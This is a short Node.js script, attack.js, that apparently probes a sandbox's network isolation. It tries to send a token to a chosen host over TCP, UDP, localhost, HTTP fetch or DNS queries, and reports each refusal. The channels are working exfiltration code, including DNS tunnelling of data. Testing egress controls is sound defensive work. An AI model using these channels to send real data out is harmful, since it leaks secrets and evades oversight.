// Ways out that a Node program has: attack.js WAY TOKEN WHERE...
const [way, token, port, host] = process.argv.slice(2);
console.log("trying");
const refused = error => { console.log("refused", error.code); process.exitCode = 1; };
({
  tcp: () => require("net").connect(port, host, function () { this.end(token); }).on("error", refused),
  udp: () => { const s = require("dgram").createSocket("udp4").on("error", refused); s.send(token, port, host, () => s.close()); },
  local: () => require("net").connect(port, function () { this.end(token); }).on("error", refused),
  fetch: () => fetch(`http://${host}:${port}/${token}`).catch(() => refused({ code: "fetch" })),
  dns: () => {
    const resolver = new (require("dns").Resolver)({ timeout: 300, tries: 1 });
    resolver.setServers([`${host}:${port}`]);
    resolver.resolve4(token + ".invalid", error => refused(error));
  },
})[way]();
